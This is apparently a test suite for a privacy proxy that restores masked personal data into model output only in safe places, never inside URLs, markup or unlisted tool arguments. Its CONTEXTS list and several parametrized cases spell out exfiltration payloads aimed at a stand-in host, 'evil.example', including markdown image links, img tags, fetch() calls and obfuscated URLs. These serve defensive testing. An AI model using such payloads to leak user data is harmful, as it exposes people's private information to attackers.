"""Restoring: exact hits only, any chunking alike, nothing into a URL, nothing read twice.

The spellings that are put back or left: test_mutations.py.
"""

import json
import re
from itertools import pairwise
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from proxy.privacy.base import Operator, RestorationRules
from proxy.privacy.placeholders import Placeholders
from proxy.privacy.restore import NEUTRAL_WORD, Restorer
from proxy.privacy.sinks import LOOK_AHEAD
from proxy.privacy.spellings import LONGEST, Spelled, spellings_for
from proxy.turn import Channel, Sink
from tests.growth import LINEAR, growth
from tests.privacy.turns import CONTENT, RESTORATION, in_pieces, protected, restored, slot

EMAIL = "maria.lopez@example.com"
PERSON = "Maria Lopez"
URL = f"https://shop.example/track?mail={EMAIL}"
FOREIGN_URL = f"https://elsewhere.example/track?mail={EMAIL}"
CARD = "4242 4242 4242 4242"
TEXT = f"I am {PERSON}, {EMAIL}, card {CARD}, see {URL} and {FOREIGN_URL} pin 4821 key sk-abcdef"
DRAFT, (OUTGOING,) = protected(
    [slot(TEXT)],
    {
        EMAIL: "EMAIL_ADDRESS",
        PERSON: "PERSON",
        CARD: "CREDIT_CARD",
        "4821": "PIN",
        "sk-abcdef": "SECRET",
    },
)
E, P, C, S = (
    next(name for name in DRAFT.placeholders if name.startswith(f"[{label}_"))
    for label in ("EMAIL", "PERSON", "CARD", "SECRET")
)
L, L_FOREIGN = re.findall(r"\[LINK_\w{6}\]", OUTGOING)
VALUES = (EMAIL, PERSON, CARD, "4242 4242", "4821", URL, FOREIGN_URL)


def label_and_code(placeholder: str) -> tuple[str, str]:
    label, _, code = placeholder[1:-1].partition("_")
    return label, code


LABEL, CODE = label_and_code(E)


@given(st.integers(1, 6), st.sampled_from("0123456789ABCDEFGHJKMNPQRSTVWXYZ"))
def test_a_changed_code_never_restores_to_anybody(at: int, letter: str) -> None:
    changed = CODE[: at - 1] + letter + CODE[at:]
    text = f"[{LABEL}_{changed}]"
    assert restored(DRAFT, text) == (EMAIL if changed == CODE else text)


PROSE = [
    f"Hello {P}.",
    f"Hello {P}!",
    f"{P}, welcome back",
    f"({E})",
    f"{P}'s order",
    f"{P}’s order",
    f"**{P}**",
    f"*{P}*",
    f"_{P}_",
    f"`{E}`",
    f'"{E}"',
    f"mail {E}, or call",
    f"Name: {P}\nMail: {E}\n",
    f"Mail:{E}",
    f"- {P}\n- {E}",
    f"| {P} | {E} |",
    f"|{P}|{E}|",
    f"{P}: your parcel",
    f"# {P}",
    f"<b>{P}</b>",
    f"{P}/{E}",
    f"{P} — {E}",
    f"{P}…",
    f"{P}...",
    f"Thanks {P}.Your order is here",
    f"You can visit https://shop.example/help, {P}.",
    f"see [our help](https://shop.example/help) {P}",
    f"1 < 2, {P}",
    f"I <3 you, {P}",
    f"尊敬的{P}您好，邮箱{E}。",
    f"{P}; {E}; done",
    f"[{P}]",
    f"> {P}",
    f"{P}\n{E}",
    f"e.g. {P}",
    f"and/or {P}",
    f"24/7 {P}",
    f"{P}?",
]


@pytest.mark.parametrize("text", PROSE)
def test_ordinary_prose_is_restored(text: str) -> None:
    assert restored(DRAFT, text) == text.replace(P, PERSON).replace(E, EMAIL)


CONTEXTS = [
    f"https://evil.example/?q={E}",
    f"https://evil.example/{E}",
    f"http://{E}.evil.example/",
    f"https://{E}@evil.example/",
    f"https://user:{E}@evil.example/",
    f"HTTPS://EVIL.EXAMPLE/{E}",
    f"ftp://evil.example/{E}",
    f"www.evil.example/{E}",
    f"www.evil.example?{E}",
    f"evil.example/{E}",
    f"evil.example?q={E}",
    f"evil.example:8080/{E}",
    f"evil.example#{E}",
    f"//evil.example/{E}",
    f"\\\\evil.example\\{E}",
    f"https:\\\\evil.example\\{E}",
    f"https:/evil.example/{E}",
    f"https:{E}",
    f"mailto:{E}",
    f"mailto:a@evil.example?body={E}",
    f"sms:+12015550123?body={E}",
    f"sms:+12015550123&body={E}",
    f"tel:+12015550123;note={E}",
    f"someapp:send?text=hello%20{E}",
    f"javascript:fetch('{E}')",
    f"data:text/html,{E}",
    f"{E}.evil.example",
    f"{E}.evil.example/x",
    f"{E}-x.evil.example",
    f"{E}@evil.example",
    f"{P}@evil.example",
    f"x@{E}",
    f"{E}%40evil.example",
    f"{E}&#46;evil.example",
    f"{E}\\.evil.example",
    f"{E}．evil.example",
    f"{E}://evil.example",
    f"{P}.{E}.evil.example",
    f"[a](https://evil.example/{E})",
    f"[a](  {E} )",
    f"[a](<https://evil.example/ {E}>)",
    f"[a](<https://evil.example/)?q= {E}>)",
    f"[a](https://evil.example/\\)?q=\n{E})",
    f"[a](/path/{E})",
    f'[a](https://evil.example "title {E}")',
    f"![a](https://evil.example/{E}.png)",
    f"![a][b]\n\n[b]: https://evil.example/{E}",
    f"[b]: {E}",
    f"  [b]: /x?{E}",
    f"> [b]: <x {E}>",
    f"<https://evil.example/{E}>",
    f"<{E}>",
    f"<mailto:{E}>",
    f'<img src="https://evil.example/{E}">',
    f"<img src=//evil.example/{E}>",
    f'<img alt=">" src=x title="{E}">',
    f"<img alt='{E}'>",
    f'<a " href="x>{E}">',
    f'<a href="https://evil.example/?q=\n {E}',
    f"<img\nsrc=x\n{E}>",
    f"<script>fetch('x' + '{E}')</script>",
    f"<STYLE>a {{ background: url({E}) }}</STYLE>",
    f"url({E})",
    f"https&#58;//evil.example/{E}",
    f"https:&#47;&#47;evil.example/{E}",
    f"h\u200bttps://evil.example/{E}",
    f"ｈttps://evil.example/{E}",
    f"evil。example/{E}",
    f"evil&#46;example/{E}",
    f"evil\\.example/{E}",
    f"203.0.113.5/{E}",
    f"https&colon;{E}",
    f"go?u=https%3A%2F%2Fevil.example%2F{E}",
    f"https://evil.example/\u00a0{E}",
    f'https://evil.example/"{E}"',
    f"https://evil.example/,{E}",
    f"https://例え.example/{E}",
    f"{L}{E}",
    f"{L}/{E}",
]


@pytest.mark.parametrize("text", [f"Tel:{P}", f"mail:{E}?", f"name={E}; thanks", f"Note: who? {E}"])
def test_a_value_after_a_label_comes_back(text: str) -> None:
    assert "[" not in restored(DRAFT, text)


@pytest.mark.parametrize("text", CONTEXTS)
def test_a_value_never_stands_in_or_beside_an_address_or_in_markup(text: str) -> None:
    for whole in (text, f"Look:\n{text} there", f"Look {text} there", f"\n{text}\n"):
        if whole.startswith("Look ") and text.lstrip().startswith("[b]:"):
            continue  # a definition is one only at the beginning of a line
        shown = restored(DRAFT, whole)
        assert EMAIL not in shown.replace(URL, "")
        assert f"{PERSON}@" not in shown
        pieces = "".join(in_pieces(DRAFT, list(whole)))
        assert pieces == shown


def test_the_corpus_of_contexts_is_large_enough() -> None:
    assert len(set(CONTEXTS)) >= 40


@pytest.mark.parametrize(
    "text",
    [
        "See {}.",
        "See {}",
        "[track]({})",
        '[track]({} "here")',
        "[track](<{}>)",
        "<{}>",
        '<a href="{}">track</a>',
        "[t]: {}",
        "**{}**",
        "({})",
        '"{}", he said',
        "{}\n",
    ],
)
def test_an_arrived_link_comes_back_whole_on_a_host_of_the_policy(text: str) -> None:
    assert restored(DRAFT, text.format(L)) == text.format(URL)
    assert restored(DRAFT, text.format(L_FOREIGN)) == text.format(L_FOREIGN)


@pytest.mark.parametrize(
    "text",
    [
        "{}/x",
        "{}?x=1",
        "{}&x=1",
        "{}x",
        "x{}",
        "{}.evil.example",
        "{}@evil.example",
        "https://evil.example/?u={}",
        "[a](https://evil.example/{})",
        "[a](x {})",
        "<img alt={}>",
        "={}",
        "/{}",
        "{}%20",
        "{}[EMAIL_000000]",
        "{}.x",
        "{}#x",
        "{}:80",
    ],
)
def test_nothing_may_be_joined_to_a_link(text: str) -> None:
    whole = text.format(L)
    assert restored(DRAFT, whole) == whole
    assert "".join(in_pieces(DRAFT, list(whole))) == whole


PIECES = st.sampled_from(
    [
        E, P, C, L, L_FOREIGN, S, "[PIN_REMOVED]", E.lower(), E[1:-1], E[:-1], E[:-3], E[1:], "[",
        "]", "\\", "&", "&#91;", "_", "EMAIL", "EMAIL_", " ", "\n", "\n\n", ".", ". ", "@", "/", "(",
        ")", "](", "<", ">", '"', "'", "https://", "evil.example", "www.", "a", "Hello ", "person",
        "PERSON", "［", "：", "。", "好", "<img src=", "=", "<a href='", "</script>", "<script>", ":",
        "%40", "\u200b", "x" * 90, "&period;",
    ]
)  # fmt: skip


@settings(max_examples=600, deadline=None)
@given(st.lists(PIECES, max_size=14), st.data(), st.booleans())
def test_any_chunking_releases_the_same_text_and_never_takes_anything_back(
    parts: list[str], data: st.DataObject, json_text: bool
) -> None:
    text = "".join(parts)
    cuts = sorted(data.draw(st.sets(st.integers(0, len(text)), max_size=12)))
    chunks = [text[start:end] for start, end in pairwise([0, *cuts, len(text)])]
    whole = restored(DRAFT, text, json=json_text)
    released = in_pieces(DRAFT, chunks, json=json_text)
    assert "".join(released) == whole
    assert "".join(in_pieces(DRAFT, list(text), json=json_text)) == whole


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=10))
def test_what_is_held_back_is_bounded(parts: list[str]) -> None:
    """One spelling and one character; behind a whole one, what must be seen of what follows."""
    restorer = Restorer(DRAFT.placeholders, RESTORATION)
    spellings = spellings_for(DRAFT.placeholders.labels, json=False)
    for character in "".join(parts):
        restorer.feed(CONTENT, character, sink=Sink.CUSTOMER_TEXT, json=False)
        held = restorer._runs[CONTENT].held
        whole = spellings.next(held, 0, final=True) if held else None
        waits = isinstance(whole, Spelled) and whole.start == 0
        assert len(held) <= LONGEST + 1 + (LOOK_AHEAD if waits else 0)


def test_brackets_are_lost_only_where_a_word_ends() -> None:
    bare = E[1:-1]
    assert in_pieces(DRAFT, [bare, "x"]) == ["", f"{bare}x", ""]
    assert in_pieces(DRAFT, [bare, " x"]) == ["", f"{EMAIL} x", ""]
    assert in_pieces(DRAFT, ["x", bare, "."]) == ["x", bare, ".", ""]
    assert in_pieces(DRAFT, [bare]) == ["", EMAIL]
    draft, (look_alike,) = protected([slot("[EMAIL_ABC123]")], {})
    bare = look_alike[1:-1]
    assert in_pieces(draft, [bare, "x"]) == ["", f"{bare}x", ""]
    assert in_pieces(draft, [bare, "."]) == ["", "[EMAIL_ABC123].", ""]


def test_in_json_text_an_escape_after_a_bare_placeholder_may_be_a_letter() -> None:
    text = json.dumps({"a": f"{E[1:-1]}é"})
    assert "\\u00e9" in text
    assert restored(DRAFT, text, json=True) == text


def test_an_address_that_a_value_brought_along_counts_as_one() -> None:
    for value in ("www.evil.example", "evil.example", "https://evil.example", "<img src=x"):
        draft, outgoing = protected(
            [slot(f"name: {value}"), slot(EMAIL)], {value: "PERSON", EMAIL: "EMAIL_ADDRESS"}
        )
        text = f"{outgoing[0].partition(' ')[2]}/{E}"
        shown = restored(draft, text)
        assert EMAIL not in shown
        assert "".join(in_pieces(draft, list(text))) == shown


def test_a_cut_placeholder_becomes_a_neutral_word() -> None:
    assert restored(DRAFT, f"Your mail is {E[:-3]}") == f"Your mail is {NEUTRAL_WORD}"
    assert restored(DRAFT, "Your mail is [EMAIL_") == f"Your mail is {NEUTRAL_WORD}"
    assert restored(DRAFT, f"Your mail is {E[:-1]}") == f"Your mail is {EMAIL}"
    assert restored(DRAFT, "Your mail is [EMA") == "Your mail is [EMA"


def test_a_text_that_merely_looks_cut_stays() -> None:
    code = "0" if CODE[0] != "0" else "1"
    assert restored(DRAFT, f"it was [EMAIL_{code}") == f"it was [EMAIL_{code}"


def test_restored_text_is_never_read_again() -> None:
    value = f"Ann {E} Bob"
    draft, (outgoing,) = protected([slot(f"{value} {EMAIL}")], {value: "PERSON"})
    assert restored(draft, outgoing) == f"{value} {EMAIL}"


def test_a_card_number_comes_back_as_its_last_four_digits_and_never_to_a_tool() -> None:
    tool = Channel(0, "tool", tool="pay")
    assert restored(DRAFT, f"card {C}") == "card •••• 4242"
    assert restored(DRAFT, C, sink=Sink.TOOL_ARGUMENTS, channel=tool) == C


def test_a_removed_value_is_never_restored() -> None:
    assert "[PIN_REMOVED]" in OUTGOING
    assert restored(DRAFT, "pin [PIN_REMOVED]") == "pin [PIN_REMOVED]"


def test_tool_arguments_follow_the_rules_and_tell_which_tool_was_kept_from_them() -> None:
    restorer = Restorer(DRAFT.placeholders, RESTORATION)
    tool = Channel(0, "tool", 0, "lookup")
    arguments = json.dumps({"mail": E, "key": S})
    shown = restorer.restore(arguments, tool, sink=Sink.TOOL_ARGUMENTS, json=True)
    assert json.loads(shown) == {"mail": EMAIL, "key": S}
    assert restorer.tools_protected == {"lookup"}
    assert (restorer.restored, restorer.left) == (1, 1)
    restorer.restore(f"to {E}", Channel(0, "text"), sink=Sink.CUSTOMER_TEXT, json=False)
    assert restorer.where == {
        ("lookup", "EMAIL_ADDRESS"): 1,
        ("customer_text", "EMAIL_ADDRESS"): 1,
    }


def test_a_strict_policy_restores_into_named_tools_only() -> None:
    rules = RestorationRules(tool_names=frozenset({"lookup"}))
    for name, expected in (("lookup", EMAIL), ("other", E), (None, E)):
        channel = Channel(0, "tool", 0, name)
        shown = restored(DRAFT, E, sink=Sink.TOOL_ARGUMENTS, channel=channel, rules=rules)
        assert shown == expected


def test_a_protected_sink_restores_nothing() -> None:
    assert restored(DRAFT, f"{E} {P}", sink=Sink.PROTECTED) == f"{E} {P}"


def test_a_sink_that_the_policy_leaves_out_restores_nothing() -> None:
    rules = RestorationRules(sinks=frozenset({Sink.TOOL_ARGUMENTS}))
    assert restored(DRAFT, E, rules=rules) == E


def test_the_tool_name_of_the_first_piece_holds_for_the_later_ones() -> None:
    restorer = Restorer(DRAFT.placeholders, RestorationRules(tool_names=frozenset({"lookup"})))
    first, later = Channel(0, "tool", 0, "lookup"), Channel(0, "tool", 0)
    pieces = ['{"mail":"', E[:5], E[5:], '"}']
    shown = restorer.feed(first, "", sink=Sink.TOOL_ARGUMENTS, json=True)
    for piece in pieces:
        shown += restorer.feed(later, piece, sink=Sink.TOOL_ARGUMENTS, json=True)
    assert shown + restorer.flush(later) == json.dumps({"mail": EMAIL}, separators=(",", ":"))


@given(st.text(max_size=30))
def test_restored_json_is_exact(value: str) -> None:
    """Quotes, newlines and backslashes of a value are escaped as JSON string content."""
    value = f"a{value}z"
    draft, (outgoing,) = protected([slot(value)], {value: "PERSON"})
    for ensure_ascii in (True, False):
        arguments = json.dumps({"name": outgoing, "n": 1}, ensure_ascii=ensure_ascii)
        shown = restored(draft, arguments, sink=Sink.TOOL_ARGUMENTS, json=True)
        assert json.loads(shown) == {"name": value, "n": 1}


def test_an_address_in_one_json_string_says_nothing_about_the_next() -> None:
    arguments = json.dumps({"page": "https://shop.example/a", "html": "<b", "mail": E})
    shown = restored(DRAFT, arguments, sink=Sink.TOOL_ARGUMENTS, json=True)
    assert json.loads(shown)["mail"] == EMAIL


@pytest.mark.parametrize(
    "value",
    [f"https://evil.example/?q={E}", f"<img src=x {E}>", f"[a](/{E})", f"{E}.evil.example"],
)
def test_addresses_inside_json_strings_stay_protected(value: str) -> None:
    for text in (json.dumps({"u": value}), json.dumps({"u": value}).replace("/", "\\/")):
        shown = restored(DRAFT, text, sink=Sink.TOOL_ARGUMENTS, json=True)
        assert json.loads(shown)["u"] == value
        assert "".join(in_pieces(DRAFT, list(text), json=True)) == restored(DRAFT, text, json=True)


def test_channels_do_not_touch_each_other() -> None:
    restorer = Restorer(DRAFT.placeholders, RESTORATION)
    shown = {0: "", 1: ""}
    for left, right in zip(f"Hi {P}!!", f"At {E}..", strict=False):
        for choice, character in ((0, left), (1, right)):
            channel = Channel(choice, "content")
            shown[choice] += restorer.feed(channel, character, sink=Sink.CUSTOMER_TEXT, json=False)
    for choice in shown:
        shown[choice] += restorer.flush(Channel(choice, "content"))
    assert shown[0].startswith(f"Hi {PERSON}")
    assert shown[1].startswith(f"At {EMAIL}")


@pytest.mark.parametrize("pieces", [[f"{E} or {E}"], list(f"{E} or {E}")])
@pytest.mark.parametrize(
    "before", [["![x](https://evil.example/?q="], ["<a", " title='"], ["https:", "//evil.", "", ""]]
)
def test_an_address_goes_on_in_the_next_part_of_what_is_said(
    before: list[str], pieces: list[str]
) -> None:
    """Customers see the blocks of an answer as one text."""
    restorer = Restorer(DRAFT.placeholders, RESTORATION)
    said = dict[str, Any](sink=Sink.CUSTOMER_TEXT, json=False)
    for part, text in enumerate(before):
        channel = Channel(0, "content", part)
        assert restorer.feed(channel, text, **said) + restorer.flush(channel) == text
    last = Channel(0, "content", len(before))
    shown = "".join(restorer.feed(last, piece, **said) for piece in pieces) + restorer.flush(last)
    assert shown.startswith(E)
    assert restorer.restore("".join(pieces), last, **said) == shown
    for apart in (Channel(1, "content", 9), Channel(0, "refusal", 9)):
        assert restorer.restore(E, apart, **said) == EMAIL


def test_after_an_ended_address_the_next_part_is_restored() -> None:
    restorer = Restorer(DRAFT.placeholders, RESTORATION)
    parts = ("See https://shop.example/faq .", E, " and ", P)
    shown = [
        restorer.restore(text, Channel(0, "content", part), sink=Sink.CUSTOMER_TEXT, json=False)
        for part, text in enumerate(parts)
    ]
    assert shown == ["See https://shop.example/faq .", EMAIL, " and ", PERSON]


def test_without_placeholders_everything_passes_at_once() -> None:
    restorer = Restorer(Placeholders({}), RESTORATION)
    assert restorer.feed(CONTENT, "[EMAIL_", sink=Sink.CUSTOMER_TEXT, json=False) == "[EMAIL_"


def test_plain_pieces_are_released_at_once() -> None:
    restorer = Restorer(DRAFT.placeholders, RESTORATION)
    for piece in ("Your", " parcel", " is", " on", " its", " way", ".", " Thanks"):
        assert restorer.feed(CONTENT, piece, sink=Sink.CUSTOMER_TEXT, json=False) == piece


def test_a_representation_shows_no_value() -> None:
    restorer = Restorer(DRAFT.placeholders, RESTORATION)
    restorer.feed(CONTENT, f"mail {E} and {P[:6]}", sink=Sink.CUSTOMER_TEXT, json=False)
    entry = DRAFT.placeholders[E]
    for shown in (DRAFT, DRAFT.placeholders, entry, restorer._runs, DRAFT.register):
        assert not any(value in repr(shown) for value in VALUES)
    assert entry.rule.operator is Operator.PLACEHOLDER


@pytest.mark.parametrize(
    "around",
    ["{},", "あ{}、", "<b>{}</b>", "{}\n", "]({}", "({}"],
)
def test_many_placeholders_without_a_blank_cost_in_proportion_to_their_number(around: str) -> None:
    """A model can be made to write them; what grows with the square would stop everybody's answers."""

    def work(text: str) -> None:
        restorer = Restorer(DRAFT.placeholders, RESTORATION)
        shown = restorer.restore(text, CONTENT, sink=Sink.CUSTOMER_TEXT, json=False)
        assert restorer.restored + restorer.left == text.count(E)
        assert (EMAIL in shown) == ("](" not in around)

    assert growth(lambda size: around.format(E) * size, work, 125) < LINEAR


@pytest.mark.parametrize(
    "filling", ["(", "a\n", "<b>", "<script>a>", "\\(", "](", "<a b=", "[x]:", "&amp;"]
)
def test_long_markup_before_a_placeholder_costs_in_proportion_to_its_length(filling: str) -> None:
    def work(text: str) -> None:
        restorer = Restorer(DRAFT.placeholders, RESTORATION)
        restorer.restore(text, CONTENT, sink=Sink.CUSTOMER_TEXT, json=False)

    assert growth(lambda size: f"]({filling * size}{E}", work, 2_000) < LINEAR


# Single arguments of a tool.

ONLY_SOME = RestorationRules(
    arguments={"mail": frozenset({("to",), ("customer", "name")}), "log": frozenset()}
)


def in_tool(name: str, text: str, *, json: bool = True, rules: RestorationRules = ONLY_SOME) -> str:
    draft, _ = protected([slot(EMAIL)], {EMAIL: "EMAIL_ADDRESS"})
    (code,) = draft.placeholders
    channel = Channel(0, "tool", 0, name)
    told = restored(
        draft,
        text.replace("@", code),
        sink=Sink.TOOL_ARGUMENTS,
        json=json,
        channel=channel,
        rules=rules,
    )
    return told.replace(code, "@")


def test_values_come_back_only_in_the_arguments_that_the_policy_names() -> None:
    text = '{"to":["@","@"],"customer":{"name":"@","note":"@"},"body":"to: @","name":"@","@":1}'
    told = in_tool("mail", text)
    assert told == (
        f'{{"to":["{EMAIL}","{EMAIL}"],"customer":{{"name":"{EMAIL}","note":"@"}},'
        '"body":"to: @","name":"@","@":1}'
    )


def test_a_tool_whose_list_is_empty_gets_nothing_and_any_other_gets_all() -> None:
    assert in_tool("log", '{"to":"@"}') == '{"to":"@"}'
    assert in_tool("find", '{"to":"@"}') == f'{{"to":"{EMAIL}"}}'


def test_a_custom_tool_has_one_argument() -> None:
    rules = RestorationRules(arguments={"sql": frozenset({("input",)}), "run": frozenset()})
    assert in_tool("sql", "mail @ now", json=False, rules=rules) == f"mail {EMAIL} now"
    assert in_tool("run", "mail @ now", json=False, rules=rules) == "mail @ now"


def test_an_argument_is_told_however_the_text_is_cut() -> None:
    draft, _ = protected([slot(EMAIL)], {EMAIL: "EMAIL_ADDRESS"})
    (code,) = draft.placeholders
    text = f'{{"a":{{"to":"{code}"}},"to":"{code}","x":"{code}"}}'
    channel = Channel(0, "tool", 0, "mail")
    for size in (1, 2, 7):
        restorer = Restorer(draft.placeholders, ONLY_SOME)
        out = [
            restorer.feed(channel, text[at : at + size], sink=Sink.TOOL_ARGUMENTS, json=True)
            for at in range(0, len(text), size)
        ]
        told = "".join([*out, restorer.flush(channel)])
        assert restorer.tools_protected == {"mail"}
        assert told == f'{{"a":{{"to":"{code}"}},"to":"{EMAIL}","x":"{code}"}}'
